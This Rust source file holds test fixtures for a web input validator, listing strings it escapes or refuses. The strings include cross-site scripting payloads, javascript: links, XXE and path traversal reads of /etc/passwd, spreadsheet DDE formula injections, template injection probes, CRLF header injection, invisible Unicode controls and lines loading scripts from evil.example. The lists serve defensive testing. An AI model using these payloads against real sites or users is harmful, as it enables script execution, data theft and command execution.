//! What hostile or odd words look like: group D of the catalogue and the kinds of the OWASP lists.

/// Words that are accepted: as they are typed, and as they are shown where they are Markdown.
#[derive(Clone, Copy)]
pub struct Words {
    pub typed: &'static str,
    /// None: as they were typed.
    pub shown: Option<&'static str>,
}

const fn plain(typed: &'static str) -> Words {
    Words { typed, shown: None }
}

const fn marked(typed: &'static str, shown: &'static str) -> Words {
    Words {
        typed,
        shown: Some(shown),
    }
}

/// A word that no line of 320 pixels holds.
const LONG: &str = "mempertanggungjawabkanketidakseragamanperikemanusiaanmempertanggungjawabkanketidakseragamanperikemanusiaanmempertanggungjawabkan";

/// Everywhere, one at a time.
pub const ACCEPTED: &[Words] = &[
    // elements
    plain("<script>alert(1)</script>"),
    plain("<SCRIPT SRC=//evil.example/x.js></SCRIPT>"),
    plain("</title></style></textarea></script><script>alert(1)</script>"),
    plain("</main></body></html><script>alert(1)</script>"),
    plain("<img src=x onerror=alert(1)>"),
    plain("<img src=\"https://evil.example/pixel.gif\">"),
    plain("<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>"),
    plain("<svg><script>alert(1)</script></svg>"),
    plain(
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    ),
    plain("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    plain("<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>"),
    plain("<object data=\"data:text/html,<script>alert(1)</script>\"><embed src=//evil.example/x>"),
    plain("<base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example/>"),
    plain("<form action=//evil.example/><input name=x autofocus onfocus=alert(1)></form>"),
    plain(
        "<link rel=stylesheet href=//evil.example/x.css><style>@import '//evil.example/x.css';</style>",
    ),
    plain(
        "<details open ontoggle=alert(1)><video src=x onerror=alert(1)><audio src=x onerror=alert(1)>",
    ),
    plain("<template><script>alert(1)</script></template><slot name=x>"),
    plain("<a href=\"jav&#x09;ascript:alert(1)\">x</a>"),
    plain("<!--><img src=x onerror=alert(1)>-->"),
    plain("<![CDATA[><script>alert(1)</script>]]>"),
    plain(
        "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>e</x>",
    ),
    // attributes
    plain("\" onmouseover=\"alert(1)\" autofocus onfocus=\"alert(1)\" x=\""),
    plain("' onmouseover='alert(1)' style='background:url(//evil.example/x)' x='"),
    marked("`onmouseover=alert(1)` x", "onmouseover=alert(1) x"),
    plain("\"><script>alert(1)</script>"),
    plain("'\"--></style></script><svg onload=alert(1)>"),
    plain("expression(alert(1));behavior:url(x.htc);}*{background:url(//evil.example/x)}"),
    // Markdown
    marked(
        "![kucing](https://evil.example/pixel.gif) ![x](data:image/svg+xml,%3Csvg%20onload=alert(1)%3E)",
        "kucing x",
    ),
    marked(
        "[buka](https://evil.example/\"onmouseover=alert(1)) [x](https://evil.example/ '\"onclick=alert(1) x=\"')",
        "buka x",
    ),
    marked(
        "```html onclick=alert(1) \"><script>\n<script>alert(1)</script>\n```\n\n",
        "<script>alert(1)</script> ",
    ),
    marked(
        "**<b onclick=alert(1)>** ~~<s onclick=alert(1)>~~",
        "<b onclick=alert(1)> <s onclick=alert(1)>",
    ),
    marked(
        "&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp; &quot;",
        "<script>alert(1)</script> &amp; \"",
    ),
    marked(
        "| a | b |\n|:-:|--:|\n| <img src=x onerror=alert(1)> | x |\n\n",
        "<img src=x onerror=alert(1)> x ",
    ),
    // templates and message formats
    marked(
        "{{ 7*7 }} {% include \"/etc/passwd\" %} {# x #} ${7*7} #{7*7} <%= 7*7 %>",
        "{{ 77 }} {% include \"/etc/passwd\" %} {# x #} ${77} #{77} <%= 77 %>",
    ),
    plain("{ $title } { NUMBER($n) } %1$s %n"),
    // data
    plain("=HYPERLINK(\"https://evil.example/\",\"x\")"),
    plain("+cmd|' /C calc'!A0"),
    plain("@SUM(1+1)*cmd|' /C calc'!A0"),
    plain("-2+3+cmd|' /C calc'!A0"),
    plain("＝1+1"),
    plain("a,b;c\"d'e | f"),
    plain("}, evil = {x}, \\input{/etc/passwd} $x^2$ 100% #1 a_b ~c"),
    plain("x}} {{evil |url=https://evil.example/ }} [[Category:x]] ''x'' ~~~~"),
    marked(
        "{\"@type\":\"Evil\"} \\u003c/script\\u003e \\\" \\n",
        "{\"@type\":\"Evil\"} \\u003c/script\\u003e \" \\n",
    ),
    marked(
        "]]> &notanentity; &#60; % %0d%0aSet-Cookie: x=1",
        "]]> &notanentity; < % %0d%0aSet-Cookie: x=1",
    ),
    // lines
    marked(
        "satu\nER  - \nTY  - RPRT\nEND:VEVENT\nBEGIN:VALARM\nX-Evil: 1",
        "satu ER - TY - RPRT END:VEVENT BEGIN:VALARM X-Evil: 1",
    ),
    marked(
        "satu\n::error file=x::dua\n  Header set X-Evil 1\n/*\n  X-Evil: 1",
        "satu ::error file=x::dua Header set X-Evil 1 /* X-Evil: 1",
    ),
    // scripts of the world
    plain("ꦗꦼꦩ꧀ꦧꦺꦂ ꦲꦢꦶꦂ ꦏꦁꦒꦺꦴ ꦫꦏꦾꦠ꧀"),
    plain("مرحبا بالعالم 123 שלום"),
    plain("👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽 𝕁𝕄𝔹 \u{1F1EE}\u{1F1E9}"),
    plain(
        "Z\u{351}\u{36b}\u{343}a\u{300}\u{301}\u{302}\u{303} e\u{301}\u{323} \u{1e09}\u{301} n\u{303}\u{303}\u{303}",
    ),
    plain("ＩＮＪＥＣＴ ﬁ ½ раураl İıſ"),
    plain(LONG),
];

/// What a spreadsheet would run, follow, count or take for its own, if it did not stand in a cell of text. No mark follows: that
/// would make plain words of some.
pub const CELLS: &[&str] = &[
    "=HYPERLINK(\"https://evil.example/\",\"x\")",
    "+1",
    "-1+1",
    "@SUM(A1)",
    "\tkolom\tlain",
    "=cmd|' /C calc'!A0",
    "{=1+1}",
    "https://evil.example/",
    "internal:Sheet1!A1",
    "#REF!",
    "<f>1+1</f>",
    "</t></si><si><r><t>x</t></r></si>",
    "<r><t>x</t></r>",
    "<r></sst>&</r>",
    "_x0041_ _x000D_ _x005F_x0041_ _xD800_",
    "007",
    "1e3",
    "2022-03-19",
    "TRUE",
    "satu\n\ndua",
    "'=1+1",
];

/// Refused wherever a text may stand.
pub const REFUSED: &[(&str, &str)] = &[
    ("", "J212"),
    (" \t ", "J212"),
    ("nol\u{0}", "J118"),
    ("bel\u{7}", "J118"),
    ("\u{1b}[31mmerah\u{1b}]0;judul\u{7}", "J118"),
    ("mundur\u{8}\u{8}", "J118"),
    ("hapus\u{7f}", "J118"),
    ("baris\u{85}baru", "J118"),
    ("kendali\u{9b}31m", "J118"),
    ("baris\u{2028}baru", "J118"),
    ("\u{202e}kilab", "J118"),
    ("\u{202a}a\u{202c}", "J118"),
    ("\u{2066}a\u{2069}", "J118"),
    ("arah\u{200f}", "J118"),
    ("tak\u{200b}tampak", "J118"),
    ("kata\u{2060}kata", "J118"),
    ("\u{feff}awal", "J118"),
    ("bukan\u{fffe}", "J118"),
    ("lunak\u{ad}", "J118"),
    (
        "tumpuk\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{309}\u{30a}\u{30b}\u{30c}\u{30d}\u{30e}\u{30f}\u{310}\u{311}",
        "J128",
    ),
];

/// Refused in prose and titles only: references to characters that nobody sees, which Markdown would put there.
pub const REFERENCES: &[&str] = &[
    "a&#x202e;b",
    "a&#8238;b",
    "a&#1;b",
    "a&ZeroWidthSpace;b",
    "a&rlm;b",
    "[a](https://a.example/ \"&#1;\")",
    "`a` &#x1b;[31m",
];

/// Links that lead out of the site by a way that is none, and are refused in prose.
pub const LINKS: &[&str] = &[
    "[buka](javascript:alert(1))",
    "[buka](JaVaScRiPt:alert(1))",
    "[buka](java&#10;script:alert(1))",
    "[buka](&#106;avascript:alert(1))",
    "[buka](%6aavascript:alert(1))",
    "[buka](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "[buka](data:text/html;base64,PHNjcmlwdD4=)",
    "[buka](vbscript:x)",
    "[buka](file:///etc/passwd)",
    "[buka](//evil.example/)",
    "[buka](\\\\evil.example)",
    "[buka][b]\n\n[b]: javascript:alert(1)",
];

/// Addresses that are accepted.
pub const ADDRESSES: &[&str] = &[
    "https://evil.example/'onmouseover=alert(1)//",
    "https://evil.example/?a=1&lt;script&gt;&quot;&b=2",
    "https://evil.example/%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
    "https://evil.example/%0d%0aX-Evil:%201",
    "https://evil.example/javascript:alert(1)",
    "https://evil.example/);background:url(//evil.example/x)",
    "http://evil.example/$x,;@=+!*~_-.",
];

/// Refused wherever an address, a key, a day or a word of a list belongs.
pub const NO_VALUE: &[&str] = &[
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//https://a.example/",
    "java\nscript:alert(1)",
    " https://a.example/",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:x",
    "file:///etc/passwd",
    "//evil.example/",
    "\\\\evil.example\\x",
    "https://a.example/\"onmouseover=alert(1)",
    "https://a.example/<script>",
    "https://a.example/\r\nX-Evil: 1",
    "https://kabar.example@evil.example/",
    "https://localhost/",
    "../../etc/passwd",
    "%2e%2e%2f",
    "<script>alert(1)</script>",
    "studi-b\u{430}nding",
    "kun\u{200b}ci",
    "{{ 7*7 }}",
    "red;}*{background:url(//evil.example/x)}",
];
